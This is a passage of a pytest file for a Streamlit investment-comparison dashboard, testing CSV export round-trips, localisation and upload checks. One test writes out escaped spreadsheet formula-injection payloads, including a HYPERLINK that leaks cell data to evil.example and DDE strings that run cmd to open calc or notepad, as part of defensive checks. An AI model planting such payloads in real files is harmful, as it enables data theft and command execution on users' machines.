    rows = ledger.normalise(frame, currency=currency, basis="announcement", year=None, revisions="latest",
                            on_missing="mark")
    table = export.table(rows)
    back = pd.read_csv(io.StringIO(export.to_csv(table)), keep_default_na=False, na_values=[""])
    return table, back


NUMBER_COLUMNS = ("amount_low", "amount_high", "fx_rate", "value_low", "value_high", "per_year_low", "per_year_high")


@pytest.mark.parametrize("source", ["bundled", "formula_cells.csv", "german_excel_semicolon.csv"])
def test_exported_csv_reads_back_with_the_same_numbers(source: str, bundled) -> None:
    frame = bundled if source == "bundled" else check_upload((HOSTILE / source).read_bytes()).frame
    table, back = exported(frame)
    assert len(back) == len(table)
    for column in NUMBER_COLUMNS:
        if column in table:
            mine, theirs = table[column].astype(float).tolist(), back[column].astype(float).tolist()
            assert all((math.isnan(a) and math.isnan(b)) or a == b for a, b in zip(mine, theirs)), column


def test_formula_cells_come_back_as_text_with_an_apostrophe() -> None:
    frame = check_upload((HOSTILE / "formula_cells.csv").read_bytes()).frame
    table, back = exported(frame)
    by_id = back.set_index("id")
    assert by_id.loc["alpha-programme", "name"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    assert by_id.loc["alpha-programme", "actor"] == "'+cmd|' /C calc'!A0"
    assert by_id.loc["beta-campus", "name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_id.loc["beta-campus", "note"] == "'-2+3+cmd|' /C notepad'!A0"
    assert by_id.loc["gamma-cloud", "name_de"] == "'=cmd|' /C calc'!A0"
    text_columns = [c for c in back.columns if back[c].dtype == object]
    for column in text_columns:
        for value in back[column].dropna():
            assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    # numbers are numbers again, not text
    assert back["amount_low"].dtype == "float64" and back["value_high"].dtype == "float64"


def test_the_read_as_text_follows_the_ui_language():
    """How a file was read is described in the language in use when it is shown."""
    from dashboard import i18n
    from dashboard.dataset import Variant

    german = i18n.gettext_for("de")
    variant = Variant(delimiter=";", decimal=",", thousands=True, encoding="UTF-8 with BOM")
    assert variant.describe(german) == "semikolongetrennt, Dezimalkomma und '.' als Tausendertrennzeichen, UTF-8 mit BOM"
    assert Variant(delimiter="|").describe(german) == "getrennt durch '|', UTF-8"
    assert Variant(kind="xlsx").describe(german) == "XLSX (erstes Tabellenblatt)"
    assert variant.describe() == "semicolon-separated, decimal comma and '.' for thousands, UTF-8 with BOM"


def test_an_upload_with_the_extension_columns_round_trips_through_contract_csv() -> None:
    content = (Path(__file__).parent / "data" / "extended" / "good.csv").read_bytes()
    result = dataset.check_upload(content, "extended.csv")
    assert result.ok, result.problems
    again = dataset.read_dataset(dataset.contract_csv(result.frame))
    pd.testing.assert_frame_equal(again, result.frame)
    assert again.loc[6, "source_kind"] == "secondary"


def test_a_stored_copy_that_fails_its_re_read_is_reported_never_a_success(monkeypatch) -> None:
    """Issue 14, point 4: no "rows read" message for data that is then not in use."""
    def broken_copy(frame: pd.DataFrame) -> bytes:
        return b"id,name\nx,y\n"  # not what the strict reader accepts

    monkeypatch.setattr(dataset, "contract_csv", broken_copy)
    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
    assert [e.value for e in at.sidebar.success] == []
    assert len(at.sidebar.error) == 1 and "was rejected" in at.sidebar.error[0].value
    shown = at.sidebar.code[0].value.splitlines()
    assert shown[0] == "file: the file was read, but the copy kept for this session fails the strict check"
    assert "header, parent_id: missing column" in shown
    assert in_use(at).startswith("Data in use: the bundled dataset")


def test_a_note_with_a_lone_carriage_return_is_in_use_after_upload() -> None:
    at = upload_file(new_app(), "cr.csv", (HOSTILE / "cr_formula_in_note.csv").read_bytes())
    assert len(at.sidebar.success) == 1
    assert in_use(at) == "Data in use: cr\\.csv (6 rows) instead of the bundled dataset."


def test_an_uploaded_row_named_as_a_compare_pick_does_not_take_its_place() -> None:
    """Streamlit tells a multiselect's options apart by their labels: an added row named "InvestAI
    initiative" (the template's example, another id and €1bn) replaced the InvestAI pick (QA pass)."""
    at = new_app({"items": ["investai", "stargate"]})
    at.switch_page("dashboard/app_pages/compare.py").run()
    at.radio(key="upload_mode-en").set_value("add").run()
    template = read_dataset(GOOD)  # any valid file: one row, renamed, is used
    row = template.iloc[[0]].assign(id="a3", name="InvestAI initiative", name_de="", parent_id="", role="headline",
                                    amount_low="1000000000", amount_high="1000000000", overlaps_with="")
    upload_file(at, "samename.csv", row.to_csv(index=False).encode())
    picker = next(m for m in at.multiselect if m.key.startswith("items-"))
    assert "investai" in picker.value and "a3" not in picker.value, picker.value
    at.radio(key="view-en").set_value("per-year").run()
    picker = next(m for m in at.multiselect if m.key.startswith("items-"))
    assert "investai" in picker.value and "a3" not in picker.value, picker.value


def test_a_file_without_the_capacity_wording_columns_says_what_its_costs_then_take() -> None:
    """Re-uploading the data without capacity_gw_kind / accelerators_kind (the format before
    2026-12) turned SoftBank's "about €15B" per GW into "up to €15B" without a word (QA pass)."""
    text = dataset.default_dataset_path().read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    columns = [c for c in rows[0] if c not in ("capacity_gw_kind", "accelerators_kind")]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    older = out.getvalue().encode("utf-8")
    assert check_upload(older, "older.csv").unworded == ("capacity_gw_kind", "accelerators_kind")
    assert check_upload(text.encode("utf-8"), "current.csv").unworded == ()
    at = upload_file(new_app(), "older.csv", older)
    assert any("no `capacity_gw_kind` / `accelerators_kind` column" in i.value for i in at.sidebar.info), [
        i.value for i in at.sidebar.info]
    current = upload_file(new_app(), "current.csv", text.encode("utf-8"))
    assert not any("capacity_gw_kind" in i.value for i in current.sidebar.info)


@pytest.mark.parametrize(("lang", "said"), [("en", "Not read: the uploader takes one CSV"), ("de", "Nicht gelesen: Der Upload")])
def test_a_file_the_browser_refuses_is_said_why_under_it_in_the_ui_language(lang, said) -> None:
    """A file over the size limit got a red mark and its reason only in a hover and for screen
    readers, in English (QA pass 14): CSS shows the app's own sentence under the file."""
    at = new_app({"lang": lang})
    styles = [h.proto.body for h in at.get("html") if "stFileChip" in h.proto.body]
    assert len(styles) == 1 and f'content: "{said}' in styles[0] and "5 MB" in styles[0], styles
    assert ("Hochladen" in styles[0]) == (lang == "de")  # Streamlit's own "Upload" stays in English
